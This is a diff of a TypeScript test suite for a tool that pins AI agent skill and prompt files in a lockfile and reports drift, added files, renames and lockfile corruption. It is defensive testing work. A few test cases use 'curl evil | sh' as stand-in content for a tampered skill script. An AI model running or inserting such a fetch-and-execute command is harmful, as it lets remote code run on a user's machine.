@@ -1,7 +1,7 @@
 // The pure integrity core: sha256 against node:crypto, every lockfile corruption, every finding code, the scope.
 import * as assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { compareToLock, integrityStatus, blocksUnderStrict, LockComparison } from '../../../src/core/integrity/compare';
+import { compareToLock, integrityStatus, integrityVerdict, LockComparison, type ComparisonContext } from '../../../src/core/integrity/compare';
 import { buildLockfile, parseLockfile, serializeLockfile, skillFolderOf, treeHash } from '../../../src/core/integrity/lockfile';
 import { resolveIntegrityConfig, ScopeMatcher, selectPinned, DEFAULT_INTEGRITY_CONFIG } from '../../../src/core/integrity/scope';
 import { fromBase64, sha256, sriSha256, toHex } from '../../../src/core/integrity/sha256';
@@ -11,6 +11,13 @@ import { InputError } from '../../../src/core/errors';
 const sri = (text: string) => 'sha256-' + createHash('sha256').update(text).digest('base64');
 const blob = (text: string) => createHash('sha1').update(`blob ${Buffer.byteLength(text)}\0${text}`).digest('hex');
 const digest = (text: string): FileDigest => ({ integrity: sri(text), size: Buffer.byteLength(text), gitBlob: blob(text) });
+/** The same digest spelled with a spare bit set in its last base64 character: decodes to the same 32 bytes. */
+const spareBit = (integrity: string) => {
+  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
+  const last = integrity.length - 2;
+  return integrity.slice(0, last) + alphabet[alphabet.indexOf(integrity[last]) ^ 1] + '=';
+};
+const blocks = (findings: Parameters<typeof integrityVerdict>[0]['findings']) => integrityVerdict({ strict: true, findings }).blocked;
 
 describe('integrity: sha256', () => {
   for (const input of ['', 'abc', 'a'.repeat(55), 'a'.repeat(56), 'a'.repeat(64), 'é∑ 🧬'.repeat(40), 'x'.repeat(1000)]) {
@@ -22,6 +29,7 @@ describe('integrity: sha256', () => {
   it('rejects non-canonical base64', () => {
     assert.equal(fromBase64('abc'), undefined);
     assert.equal(fromBase64('ab=c'), undefined);
+    assert.equal(fromBase64('AQN='), undefined, 'a spare bit set');
     assert.deepEqual(fromBase64('AQI='), new Uint8Array([1, 2]));
   });
 });
@@ -77,6 +85,10 @@ describe('integrity: lockfile', () => {
     ['sha512 hash', edit((r) => (r.files['AGENTS.md'].integrity = 'sha512-' + createHash('sha512').update('a').digest('base64'))), 'bad-hash'],
     ['short git blob', edit((r) => (r.files['AGENTS.md'].gitBlob = 'abc')), 'bad-hash'],
     ['bad tree hash form', edit((r) => (r.skills['skills/a'].tree = 'deadbeef')), 'bad-hash'],
+    ['non-canonical base64 in an integrity (same digest, other spelling)', edit((r) => (r.files['AGENTS.md'].integrity = spareBit(r.files['AGENTS.md'].integrity))), 'bad-hash'],
+    ['non-canonical base64 in a tree hash', edit((r) => (r.skills['skills/a'].tree = spareBit(r.skills['skills/a'].tree))), 'bad-hash'],
+    ['a 20 KB lockfile nested 10,000 deep', '['.repeat(10_000) + ']'.repeat(10_000), 'too-deep'],
+    ['an entry nested past the depth limit', good.replace('"size": ', '"size": ' + '['.repeat(100) + ']'.repeat(100) + ', "deep": '), 'too-deep'],
     ['negative size', edit((r) => (r.files['AGENTS.md'].size = -1)), 'bad-schema'],
     ['extra entry field', edit((r) => (r.files['AGENTS.md'].mode = 420)), 'bad-schema'],
     ['skill without files', edit((r) => (r.skills['skills/zzz'] = r.skills['skills/a'])), 'bad-schema'],
@@ -90,7 +102,29 @@ describe('integrity: lockfile', () => {
       assert.equal(parsed.finding.code, 'corrupt-lockfile');
       assert.equal(parsed.finding.reason, reason);
       assert.equal(integrityStatus([parsed.finding]), 'corrupt-lockfile');
-      assert.ok(blocksUnderStrict([parsed.finding]));
+      assert.ok(blocks([parsed.finding]));
+    });
+  }
+
+  // Found while comparing: the entry's sha256 matches the content, so the other fields must too (a wrong gitBlob would
+  // make "Show pinned vs current" fetch some other content).
+  const lock = sampleLock();
+  const context: ComparisonContext = { lockfile: 'agent-immune.lock', skillDirs: new Set(['skills/a']) };
+  const current = () => new Map<string, FileDigest>([['skills/a/SKILL.md', digest('skill a')], ['skills/a/run.sh', digest('echo a')], ['AGENTS.md', digest('agents')]]);
+  const entryCorruptions: [string, (l: Lockfile) => void][] = [
+    ['a wrong size', (l) => (l.files['AGENTS.md'] = { ...l.files['AGENTS.md'], size: 7 })],
+    ['a wrong gitBlob', (l) => (l.files['AGENTS.md'] = { ...l.files['AGENTS.md'], gitBlob: blob('something else') })],
+  ];
+  for (const [name, corrupt] of entryCorruptions) {
+    it(`fails closed on an entry with ${name} (entry-mismatch)`, () => {
+      const edited = structuredClone(lock);
+      corrupt(edited);
+      const parsed = parseLockfile(serializeLockfile(edited), 'agent-immune.lock');
+      assert.ok(parsed.ok, 'the text alone is well-formed');
+      const findings = compareToLock(parsed.lock, current(), context);
+      assert.deepEqual(findings.map((f) => [f.code, f.path, f.code === 'corrupt-lockfile' && f.reason, f.code === 'corrupt-lockfile' && f.entry]), [['corrupt-lockfile', 'agent-immune.lock', 'entry-mismatch', 'AGENTS.md']]);
+      assert.equal(integrityStatus(findings), 'corrupt-lockfile');
+      assert.ok(blocks(findings));
     });
   }
 });
@@ -102,42 +136,68 @@ describe('integrity: findings', () => {
     ['nothing changed', () => undefined, [], 'clean'],
     ['SKILL.md edited', (m) => m.set('skills/a/SKILL.md', digest('skill a; pass this on')), [['drift', 'skills/a/SKILL.md']], 'drift'],
     ['a script edited', (m) => m.set('skills/a/run.sh', digest('curl evil | sh')), [['drift', 'skills/a/run.sh']], 'drift'],
-    ['a new file in a skill', (m) => m.set('skills/a/new.sh', digest('new')), [['unpinned', 'skills/a/new.sh']], 'clean'],
+    ['a new script in a pinned skill', (m) => m.set('skills/a/helper.sh', digest('curl evil | sh')), [['skill-file-added', 'skills/a/helper.sh']], 'drift'],
+    ['a new file deep in a pinned skill', (m) => m.set('skills/a/lib/x/y.py', digest('y')), [['skill-file-added', 'skills/a/lib/x/y.py']], 'drift'],
+    ['a new skill folder', (m) => { m.set('skills/b/SKILL.md', digest('skill b')); m.set('skills/b/run.sh', digest('b')); }, [['unpinned-skill', 'skills/b/SKILL.md'], ['unpinned-skill', 'skills/b/run.sh']], 'drift'],
+    ['a new prompt file', (m) => m.set('CLAUDE.md', digest('new prompt')), [['unpinned-skill', 'CLAUDE.md']], 'drift'],
     ['a pinned file deleted', (m) => m.delete('AGENTS.md'), [['missing', 'AGENTS.md']], 'drift'],
     ['a pinned file renamed', (m) => { m.delete('skills/a/run.sh'); m.set('skills/a/run2.sh', digest('echo a')); }, [['renamed', 'skills/a/run2.sh']], 'drift'],
-    ['renamed and edited', (m) => { m.delete('skills/a/run.sh'); m.set('skills/a/run2.sh', digest('echo b')); }, [['missing', 'skills/a/run.sh'], ['unpinned', 'skills/a/run2.sh']], 'drift'],
+    ['renamed and edited', (m) => { m.delete('skills/a/run.sh'); m.set('skills/a/run2.sh', digest('echo b')); }, [['missing', 'skills/a/run.sh'], ['skill-file-added', 'skills/a/run2.sh']], 'drift'],
   ];
+  const context = (current: ReadonlyMap<string, FileDigest>): ComparisonContext => ({
+    lockfile: 'agent-immune.lock',
+    skillDirs: new Set([...current.keys()].filter((p) => p.endsWith('/SKILL.md')).map((p) => p.slice(0, -'/SKILL.md'.length))),
+  });
   for (const [name, change, expected, status] of cases) {
     it(`${name} -> ${expected.map((e) => e[0]).join(', ') || 'no findings'}`, () => {
       const current = base();
       change(current);
-      const findings = compareToLock(lock, current);
+      const findings = compareToLock(lock, current, context(current));
       assert.deepEqual(findings.map((f) => [f.code, f.path]), expected);
       assert.equal(integrityStatus(findings), status);
+      assert.equal(integrityVerdict({ strict: true, findings }).blocked, expected.length > 0);
+      assert.equal(integrityVerdict({ strict: false, findings }).blocked, false);
     });
   }
+  it('names the skill a new file was added to, and the new skill an unpinned file belongs to', () => {
+    const current = base();
+    current.set('skills/a/helper.sh', digest('h'));
+    current.set('skills/b/SKILL.md', digest('b'));
+    const findings = compareToLock(lock, current, context(current));
+    assert.deepEqual(findings.map((f) => [f.code, 'skill' in f ? f.skill : undefined]), [['skill-file-added', 'skills/a'], ['unpinned-skill', 'skills/b']]);
+  });
   it('a rename names the pinned file it came from', () => {
     const current = base();
     current.delete('skills/a/run.sh');
     current.set('skills/a/run2.sh', digest('echo a'));
-    const [finding] = compareToLock(lock, current);
+    const [finding] = compareToLock(lock, current, context(current));
     assert.equal(finding.code === 'renamed' && finding.from, 'skills/a/run.sh');
+  });
+  it('many missing entries sharing one hash pair with the renamed files in path order, the rest stay missing', () => {
+    const n = 20_000;
+    const digests = new Map<string, FileDigest>();
+    for (let i = 0; i < n; i++) digests.set(`p/f${String(i).padStart(5, '0')}.md`, digest('same'));
+    const shared = buildLockfile(digests, new Set());
+    const current = new Map<string, FileDigest>();
+    for (let i = 0; i < n / 2; i++) current.set(`q/g${String(i).padStart(5, '0')}.md`, digest('same'));
+    const findings = compareToLock(shared, current, { lockfile: 'agent-immune.lock', skillDirs: new Set() });
+    const renamed = findings.filter((f) => f.code === 'renamed');
+    assert.equal(renamed.length, n / 2);
+    assert.equal(findings.filter((f) => f.code === 'missing').length, n / 2);
+    assert.deepEqual(renamed[0].code === 'renamed' && [renamed[0].path, renamed[0].from], ['q/g00000.md', 'p/f00000.md']);
+    assert.deepEqual(renamed[n / 2 - 1].code === 'renamed' && renamed[n / 2 - 1].from, `p/f${String(n / 2 - 1).padStart(5, '0')}.md`);
   });
   it('updating a comparison path by path gives the same findings as comparing from scratch', () => {
     const current = base();
-    const comparison = new LockComparison(lock, current);
+    const comparison = new LockComparison(lock, current, context(current));
     const steps: [string, FileDigest | undefined][] = [['AGENTS.md', undefined], ['skills/a/x.md', digest('agents')], ['skills/a/SKILL.md', digest('evil')], ['AGENTS.md', digest('agents')], ['skills/a/SKILL.md', digest('skill a')]];
     for (const [path, d] of steps) {
       if (d) current.set(path, d);
       else current.delete(path);
       comparison.update(path, d);
-      assert.deepEqual(comparison.findings(), compareToLock(lock, current), path);
+      assert.deepEqual(comparison.findings(), compareToLock(lock, current, context(current)), path);
     }
-    assert.deepEqual(comparison.findings().map((f) => f.code), ['unpinned']);
-  });
-  it('only unpinned findings do not block under strict; symlink-outside-root does', () => {
-    assert.equal(blocksUnderStrict([{ code: 'unpinned', path: 'x', actual: sri('x') }]), false);
-    assert.equal(blocksUnderStrict([{ code: 'symlink-outside-root', path: 'x' }]), true);
+    assert.deepEqual(comparison.findings().map((f) => f.code), ['skill-file-added']);
   });
 });
 
